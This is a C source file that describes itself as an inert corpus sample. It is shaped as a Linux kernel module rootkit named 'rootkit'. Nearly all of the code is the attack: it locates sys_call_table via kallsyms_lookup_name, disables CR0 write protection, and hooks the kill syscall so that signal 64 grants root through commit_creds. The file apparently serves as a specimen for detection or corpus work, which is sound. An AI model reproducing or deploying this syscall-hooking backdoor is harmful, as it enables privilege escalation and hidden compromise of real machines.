/*
 * Backsight corpus sample: kernel/syscall-hook  (INERT - compiled only, never loaded)
 *
 * Shaped like an x86-64 loadable kernel module that hooks the system-call table,
 * written from the public description of the technique: it finds sys_call_table
 * through kallsyms_lookup_name, drops CR0.WP with a write to %cr0, swaps a table
 * entry, and gives root to a caller that uses a magic argument (commit_creds).
 * No kernel headers: every kernel symbol is declared here. It is a relocatable
 * object with .modinfo and .gnu.linkonce.this_module sections, nothing more; it
 * was never built against, or loaded into, a kernel.
 */
typedef unsigned long ulong;

extern unsigned long kallsyms_lookup_name(const char *name);
extern ulong *sys_call_table;
extern void *prepare_kernel_cred(void *daemon);
extern int commit_creds(void *new_creds);
extern int _printk(const char *fmt, ...);

#define __NR_kill 62
#define MAGIC_SIGNAL 64
#define CR0_WP (1ul << 16)

/* .modinfo: key=value strings, as modpost would emit them. */
#define MODINFO(tag, info) \
	static const char __modinfo_##tag[] \
	__attribute__((used, section(".modinfo"), aligned(1))) = #tag "=" info
MODINFO(license, "GPL");
MODINFO(author, "Backsight corpus");
MODINFO(description, "inert syscall-table hook shape sample");
MODINFO(name, "rootkit");
MODINFO(vermagic, "6.1.0-corpus SMP preempt mod_unload modversions ");

int init_module(void);
void cleanup_module(void);

/* Stand-in for struct module: name at the start, init/exit pointers later. */
struct fake_module {
	char pad0[24];
	char name[56];
	char pad1[0x100];
	int (*init)(void);
	char pad2[0x200];
	void (*exit)(void);
};
struct fake_module __this_module
	__attribute__((section(".gnu.linkonce.this_module"), used)) = {
	.name = "rootkit",
	.init = init_module,
	.exit = cleanup_module,
};

static ulong *table;
static ulong orig_kill;

static inline ulong read_cr0_raw(void)
{
	ulong v;
	__asm__ volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void write_cr0_raw(ulong v)
{
	__asm__ volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

typedef long (*sys_fn)(const void *regs);

struct pt_regs_min { ulong r15, r14, r13, r12, bp, bx, r11, r10, r9, r8, ax, cx, dx, si, di; };

static long hooked_kill(const void *regs_v)
{
	const struct pt_regs_min *regs = regs_v;
	if (regs->si == MAGIC_SIGNAL) {
		commit_creds(prepare_kernel_cred((void *)0));
		return 0;
	}
	return ((sys_fn)orig_kill)(regs_v);
}

static void set_entry(int nr, ulong value)
{
	ulong cr0 = read_cr0_raw();
	write_cr0_raw(cr0 & ~CR0_WP);
	table[nr] = value;
	write_cr0_raw(cr0);
}

int init_module(void)
{
	table = (ulong *)kallsyms_lookup_name("sys_call_table");
	if (!table)
		table = sys_call_table;
	orig_kill = table[__NR_kill];
	set_entry(__NR_kill, (ulong)hooked_kill);
	_printk("\0016corpus: loaded\n");
	return 0;
}

void cleanup_module(void)
{
	if (table && orig_kill)
		set_entry(__NR_kill, orig_kill);
}
